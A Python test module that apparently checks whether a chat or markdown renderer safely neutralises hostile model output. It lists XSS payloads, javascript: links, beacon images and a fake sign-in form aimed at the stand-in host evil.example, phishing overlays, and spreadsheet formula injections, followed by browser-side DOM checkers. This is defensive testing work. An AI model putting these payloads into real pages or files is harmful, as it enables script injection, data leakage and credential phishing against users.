"""What somebody who means harm has a model say, or writes wherever the pages show it.

Every payload tries one of: to run a script, to open a dialog, to call another host, to lead elsewhere, to look like
part of the page, or to be a formula in a spreadsheet.  Written for these tests; EVIL is nobody's host.
"""

from __future__ import annotations

EVIL = "evil.example"
RUN = "window.harmed=1;alert(1)"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=https://{EVIL}/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext></mtext><script>{RUN}</script></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    f"<style><img src=\"</style><img src=x onerror='{RUN}'>\"></style>",
    f"<textarea></textarea><img src=x onerror='{RUN}'>",
    f"<title></title><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
)
HANDLERS = (
    f"<img src=x onerror='{RUN}'>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<svg onload='{RUN}'>",
    f"<details open ontoggle='{RUN}'>open</details>",
    f"<video><source onerror='{RUN}'></video>",
    f"<audio src=x onerror='{RUN}'></audio>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<a href='#' onmouseover='{RUN}'>over</a>",
    f"<body onload='{RUN}'>",
    f"<marquee onstart='{RUN}'>run</marquee>",
    f"<div style='animation:x 1s' onanimationstart='{RUN}'>x</div>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    f"<form><button formaction='javascript:{RUN}'>go</button></form>",
    f"<math href='javascript:{RUN}'>m</math>",
)
LINKS = (
    f"[click](javascript:{RUN})",
    "[click](JaVaScRiPt&colon;window.harmed=1)",
    "[click](java\tscript:window.harmed=1)",
    "[click](&#106;avascript:window.harmed=1)",
    "[click](\x01javascript:window.harmed=1)",
    "[click](vbscript:msgbox)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "[click](blob:https://x/1)",
    "[click](file:///etc/passwd)",
    f"<javascript:{RUN}>",
    f"[click][ref]\n\n[ref]: javascript:{RUN}",
    f"<a href='javascript:{RUN}' target=_self>click</a>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>click</text></a></svg>",
)
CALLS = (
    f"![x](https://{EVIL}/leak.png?secret=1)",
    f"![x](//{EVIL}/leak.png)",
    f"![x][i]\n\n[i]: https://{EVIL}/leak.png",
    f"<img srcset='https://{EVIL}/a 2x' src='data:image/png;base64,AA=='>",
    f"<picture><source srcset='https://{EVIL}/a'><img src='data:image/png;base64,AA=='></picture>",
    f"<style>*{{background:url(https://{EVIL}/a)}}</style>",
    f"<div style='background:url(https://{EVIL}/a)'>x</div>",
    f"<link rel=stylesheet href=https://{EVIL}/a.css>",
    f"<link rel=prefetch href=https://{EVIL}/a>",
    f"<iframe src=https://{EVIL}/></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=https://{EVIL}/></object>",
    f"<embed src=https://{EVIL}/>",
    f"<video poster=https://{EVIL}/a></video>",
    f"<svg><image href=https://{EVIL}/a></svg>",
    f"<svg><use href=https://{EVIL}/a#x></svg>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    f"<base href=https://{EVIL}/>",
    f"<form action=https://{EVIL}/><input name=password><button>Sign in</button></form>",
    f"<a href='https://{EVIL}/' ping='https://{EVIL}/ping'>link</a>",
)
DISGUISES = (
    "<div id=root class=modal-overlay>You are signed out. Type your token here.</div>",
    "<h1 style='position:fixed;inset:0;background:#fff;z-index:9999'>Session expired</h1>",
    "<dialog open>Session expired</dialog>",
    "\u202egnp.exe\u202c",
    "</p></div></main><h1>Outside</h1>",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "```html\n</code></pre><img src=x onerror='window.harmed=1'>\n```",
    "| a |\n|---|\n| <img src=x onerror='window.harmed=1'> |",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)

PAYLOADS = (*SCRIPTS, *HANDLERS, *LINKS, *CALLS, *DISGUISES, *FORMULAS)

HARMLESS = """() => {
  const faults = [];
  const known = new Set(("a b blockquote br code del em h1 h2 h3 h4 h5 h6 hr i img input kbd li mark ol p pre s " +
    "strong sub sup table tbody td th thead tr ul").split(" "));
  if (window.harmed) faults.push("a script ran");
  for (const node of document.querySelectorAll(".markdown .block *")) {
    if (node.closest(".block > .code")) continue;  // drawn by the page, with what was said as its text
    const tag = node.localName;
    if (!known.has(tag))
      faults.push("element " + tag);
    for (const { name, value } of node.attributes) {
      if (/^(on|style|src.|action|formaction|ping|id|name|xlink)/.test(name)) faults.push(`${tag} has ${name}`);
      if (/^(href|src)$/.test(name) && !/^(https?:|mailto:|#|data:image\\/(png|jpeg|gif|webp);)/i.test(value))
        faults.push(`${name} ${value}`);
    }
    const told = node.getAttribute("rel") !== "noopener noreferrer nofollow";
    if (tag === "a" && told) faults.push("a link that tells whence one comes");
    if (tag === "img" && !/^data:/.test(node.getAttribute("src") ?? "")) faults.push("an image elsewhere");
  }
  return faults;
}"""
"""What a page with such answers must not have, asked in the browser."""

TAME = """() => {
  const faults = window.harmed ? ["a script ran"] : [];
  const wild = "script iframe object embed base meta link style video audio marquee math frame";
  for (const node of document.body.querySelectorAll("*")) {
    const tag = node.localName;
    if (wild.split(" ").includes(tag)) faults.push("element " + tag);
    for (const { name, value } of node.attributes) {
      if (/^on|^src.|^(formaction|ping)$/.test(name)) faults.push(`${tag} has ${name}`);
      if (/^(href|src|action|xlink:href)$/.test(name) && !/^(\\/(?!\\/)|#|https?:\\/\\/127\\.0\\.0\\.1)/.test(value))
        faults.push(`${tag} leads to ${value}`);
      if (name === "style" && /url\\(/i.test(value)) faults.push(`${tag} is styled ${value}`);
    }
  }
  if (document.documentElement.scrollWidth > window.innerWidth) faults.push("it is wider than the window");
  return faults;
}"""
"""What a page must not have anywhere, whatever things are called; of a page without links to elsewhere."""
